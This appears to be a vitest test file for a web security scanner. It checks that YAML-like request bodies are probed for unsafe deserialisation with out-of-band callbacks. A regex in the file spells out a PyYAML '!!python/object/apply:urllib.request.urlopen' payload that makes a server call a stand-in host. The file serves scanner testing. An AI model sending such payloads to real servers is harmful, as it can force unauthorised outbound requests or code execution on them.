/** Bodies that are one text are places as a whole: what reads YAML may build objects of it. */
import { text } from 'node:stream/consumers'
import { afterEach, expect, it } from 'vitest'
import type { OobHit, OutOfBand } from '../../../egress/oob/out-of-band.ts'
import { caseRequest } from '../crawl/testing/crawl-facts.ts'
import { pointsOf } from '../insertion-points/points.ts'
import { closeProbed, crawlOf, html, probed } from '../insertion-points/testing/probing.ts'
import { probePoint } from './collect.ts'
import { createOutside } from './probes/outside.ts'
import { siteFilesOf } from './site-files.ts'

afterEach(closeProbed)

const LOAD = /^!!python\/object\/apply:urllib\.request\.urlopen \["http:\/\/198\.51\.100\.7\/(t\d+t)\/"\]$/

const asked = async (type: string, body: string) => {
  const request = caseRequest({
    ...{ id: 'a', method: 'POST', url: 'http://shop.test/settings', encoding: 'text', body, effect: 'unknown' },
    ...{ bound: 40, headers: [['Content-Type', type]] },
  })
  const calls: OobHit[] = []
  let issued = 0
  const listening: OutOfBand = {
    issue: () => {
      issued += 1
      return { token: `t${issued}t`, host: null, url: `http://198.51.100.7/t${issued}t/` }
    },
    hits: async (token) => calls.filter((one) => one.token === token),
  }
  const outside = createOutside(listening, 50)
  const crawl = crawlOf(pointsOf([request], new Map()), { requests: [request] })
  const { hits } = await probed(
    async (incoming, response) => {
      const token = LOAD.exec(await text(incoming))?.[1]
      if (token) calls.push({ token, protocol: 'http', at: 0, from: '192.0.2.1', detail: 'GET /', agent: '' })
      response.end(html('Kept'))
    },
    crawl,
    null,
    null,
    {
      probe: (probe, found) =>
        probePoint(probe, ({ kind }) => found(kind), outside, {
          site: siteFilesOf(crawl),
          served: async () => ({ status: 404, text: '' }),
          tests: true,
        }),
      afterwards: async (at) =>
        (await outside.settle(at, () => undefined)).map(({ point, hit }) => ({ point, hit: hit.kind })),
    },
  )
  return hits
}

it.each([
  ['application/x-yaml', 'rows: 20', ['body application/x-yaml']],
  ['text/plain', 'rows: 20\nunits: metric\n', ['body text/plain']],
  ['text/plain', 'A note.', []],
])('a body of %s: %j', async (type, body, expected) => {
  expect(await asked(type, body)).toEqual(expected)
})

it('leaves what is too long to be sent as it is', () => {
  const request = caseRequest({ encoding: 'text', method: 'POST', body: 'x'.repeat(501) })
  expect(pointsOf([request], new Map()).filter(({ place }) => place === 'body')).toEqual([])
})
